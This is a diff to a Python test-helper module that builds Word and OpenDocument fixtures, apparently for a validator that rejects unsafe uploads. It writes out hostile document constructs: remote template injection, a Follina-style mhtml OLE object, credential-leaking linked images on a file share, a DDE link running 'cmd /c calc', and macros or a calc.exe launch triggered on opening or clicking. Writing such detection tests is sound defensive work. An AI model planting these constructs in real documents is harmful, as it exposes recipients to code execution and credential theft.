@@ -82,6 +82,147 @@ def ooxml(kind="docx", extra=None):
     return _zip(members)
 
 
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def relationships(*entries):
+    """A ``.rels`` part: ``entries`` are (type, target, target mode or ``None``)."""
+    rows = "".join(
+        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
+        + (f' TargetMode="{mode}"' if mode else "")
+        + "/>"
+        for number, (kind, target, mode) in enumerate(entries, start=100)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{rows}</Relationships>"
+    )
+
+
+def docx_with_relationships(*entries, part="word/_rels/document.xml.rels"):
+    """A Word document whose ``part`` holds ``entries`` (see :func:`relationships`)."""
+    return ooxml("docx", {part: relationships(*entries)})
+
+
+# Word fetches the template its settings name when the document opens, and runs its macros
+# (« remote template injection »).
+REMOTE_TEMPLATE = ("attachedTemplate", "https://serveur.example/modele.dotm", "External")
+# An OLE object Word loads from an address (« Follina », CVE-2022-30190, used mhtml: so).
+REMOTE_OLE_OBJECT = ("oleObject", "mhtml:https://serveur.example/page.html!x-usc:x", "External")
+# An image linked, not embedded: fetched from a share at opening, with the user's credentials.
+LINKED_IMAGE = ("image", "file://serveur/partage/logo.png", "External")
+# A web page in a frame of the document.
+REMOTE_FRAME = ("frame", "https://serveur.example/cadre.html", "External")
+# A link the reader may click: allowed.
+HYPERLINK = ("hyperlink", "https://www.essonne.fr/", "External")
+
+
+def odf_content(body):
+    """An OpenDocument spreadsheet's ``content.xml`` holding ``body`` in its spreadsheet."""
+    namespaces = " ".join(
+        f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
+        for prefix, name in [
+            ("office", "office"),
+            ("table", "table"),
+            ("text", "text"),
+            ("draw", "drawing"),
+            ("script", "script"),
+            ("presentation", "presentation"),
+            ("meta", "meta"),
+        ]
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        f'<office:document-content {namespaces} xmlns:xlink="http://www.w3.org/1999/xlink" '
+        f'office:version="1.3"><office:body><office:spreadsheet>{body}</office:spreadsheet>'
+        "</office:body></office:document-content>"
+    )
+
+
+def ods(body="", *, extra=None):
+    """An OpenDocument spreadsheet whose content holds ``body``, with ``extra`` members."""
+    mimetype = "application/vnd.oasis.opendocument.spreadsheet"
+    manifest = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
+        'manifest:version="1.3">'
+        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
+        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+        "</manifest:manifest>"
+    )
+    members = {"META-INF/manifest.xml": manifest, "content.xml": odf_content(body)}
+    return _zip({**members, **(extra or {})}, first_stored=("mimetype", mimetype))
+
+
+def cell(inner):
+    return f"<table:table><table:table-row><table:table-cell>{inner}</table:table-cell>" + (
+        "</table:table-row></table:table>"
+    )
+
+
+# Content an OpenDocument fetches or runs outside itself when it opens: (what, content.xml).
+ODF_FETCHING = {
+    # A sheet linked to another file, read again at opening.
+    "linked sheet": (
+        '<table:table table:name="T"><table:table-source xlink:type="simple" '
+        'xlink:href="https://serveur.example/donnees.ods" table:mode="copy-all"/></table:table>'
+    ),
+    # An image linked from a share (LibreOffice loads it: CVE-2018-10583).
+    "linked image": cell(
+        '<draw:frame><draw:image xlink:type="simple" xlink:actuate="onLoad" '
+        'xlink:href="file://serveur/partage/logo.png"/></draw:frame>'
+    ),
+    "linked object": cell(
+        '<draw:frame><draw:object xlink:href="https://serveur.example/objet.ods"/></draw:frame>'
+    ),
+    # A section of text read from another document.
+    "linked section": cell(
+        '<text:section text:name="S"><text:section-source xlink:href="../../secret.odt"/>'
+        "</text:section>"
+    ),
+    # The address escaped, with another prefix for the XLink namespace.
+    "escaped address": cell(
+        '<draw:frame><draw:image xmlns:l="http://www.w3.org/1999/xlink" '
+        'l:href="&#x68;ttps://serveur.example/pixel.png"/></draw:frame>'
+    ),
+}
+# Content that runs a program or a macro: (what, content.xml, words of the refusal).
+ODF_RUNNING = {
+    "DDE link": (
+        '<table:table table:name="T"><office:dde-source office:dde-application="cmd" '
+        'office:dde-topic="/c calc" office:dde-item="A1"/></table:table>',
+        "DDE",
+    ),
+    "macro on opening": (
+        '<office:event-listeners><script:event-listener script:language="ooo:script" '
+        'script:event-name="dom:load" '
+        'xlink:href="vnd.sun.star.script:Tools.Misc.Run?language=Basic&amp;location=application"/>'
+        "</office:event-listeners>",
+        "macros",
+    ),
+    "macro in a link": (
+        cell(
+            '<text:p><text:a xlink:href="vnd.sun.star.script:x.py$run?location=share">x'
+            "</text:a></text:p>"
+        ),
+        "macros",
+    ),
+    "button running a program": (
+        '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" '
+        'xlink:href="file:///C:/Windows/System32/calc.exe"/>',
+        "lance un programme",
+    ),
+}
+# Links that are only followed on a click, and pictures inside the package: allowed.
+ODF_ALLOWED = cell(
+    '<text:p><text:a xlink:type="simple" xlink:href="https://www.essonne.fr/">Essonne</text:a>'
+    '</text:p><draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
+    '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
+    '<draw:a xlink:href="https://www.essonne.fr/"><draw:frame/></draw:a>'
+)
+
+
 def _dir_entry(name, kind, *, child=NOSTREAM, right=NOSTREAM, start=ENDOFCHAIN, size=0):
     encoded = (name + "\x00").encode("utf-16-le") if name else b""
     return (
